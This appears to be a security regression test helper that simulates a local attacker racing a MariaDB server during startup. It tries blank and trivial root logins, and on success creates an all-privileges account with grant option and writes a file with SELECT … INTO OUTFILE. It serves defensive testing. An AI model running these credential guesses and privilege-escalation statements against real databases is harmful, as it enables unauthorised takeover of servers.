"""A local user attacking a private MariaDB while it starts (run by test_db_security.py).

Run as a non-root user with the system Python and a copy of PyMySQL on argv[2]:
    probe_mariadb.py PORT PYMYSQL_DIR STOP_FILE [SOCKET ...]
It polls 127.0.0.1:PORT (and the sockets given) as fast as it can with passwordless and
trivial logins, until STOP_FILE exists (60 s at most). Whenever a login works it does
what the issue's attacker did: an account with ALL PRIVILEGES WITH GRANT OPTION, and a
file written with SELECT … INTO OUTFILE. At the end it prints one JSON line of counts.
"""

from __future__ import annotations

import json
import os
import sys
import time
from typing import TypedDict

sys.path.insert(0, sys.argv[2])
import pymysql


class Target(TypedDict, total=False):
    """Where a login goes: TCP (host and port) or a Unix socket."""

    host: str
    port: int
    unix_socket: str


LOGINS = [("root", ""), ("", ""), ("root", "root"), ("mysql", ""), ("stackrace", "")]


def attack(conn: pymysql.connections.Connection, tag: str) -> list[str]:
    done = []
    with conn.cursor() as cur:
        for sql in (
            f"CREATE USER 'probe-{tag}'@'%' IDENTIFIED BY 'probe'",
            f"GRANT ALL PRIVILEGES ON *.* TO 'probe-{tag}'@'%' WITH GRANT OPTION",
            f"SELECT 'owned' INTO OUTFILE '/tmp/stackrace-probe-{tag}.txt'",  # tag: PORT-N
        ):
            try:
                cur.execute(sql)
                done.append(sql.split()[0])
            except pymysql.MySQLError as exc:
                done.append(f"refused: {exc.args[0]}")
    return done


def main() -> None:
    port, stop_file, sockets = int(sys.argv[1]), sys.argv[3], sys.argv[4:]
    counts = {"attempts": 0, "no_server": 0, "denied": 0, "other": 0}
    got_in: list[dict[str, object]] = []
    targets: list[Target] = [{"host": "127.0.0.1", "port": port}]
    targets += [{"unix_socket": s} for s in sockets]
    print("polling", flush=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not os.path.exists(stop_file):
        for target in targets:
            for user, password in LOGINS:
                counts["attempts"] += 1
                try:
                    conn = pymysql.connect(
                        user=user,
                        password=password,
                        connect_timeout=2,
                        ssl_disabled=True,
                        **target,
                    )
                except pymysql.MySQLError as exc:
                    code = exc.args[0] if exc.args else 0
                    if code == 2003:
                        counts["no_server"] += 1  # not listening (yet), or no such socket
                    elif code in (1045, 1698):
                        counts["denied"] += 1  # the server answered: wrong credentials
                    else:
                        counts["other"] += 1
                    continue
                except OSError:
                    counts["other"] += 1
                    continue
                tag = f"{port}-{len(got_in)}"
                got_in.append({"user": user, "target": target, "did": attack(conn, tag)})
                conn.close()
    print(json.dumps({**counts, "got_in": got_in}), flush=True)


if __name__ == "__main__":
    main()
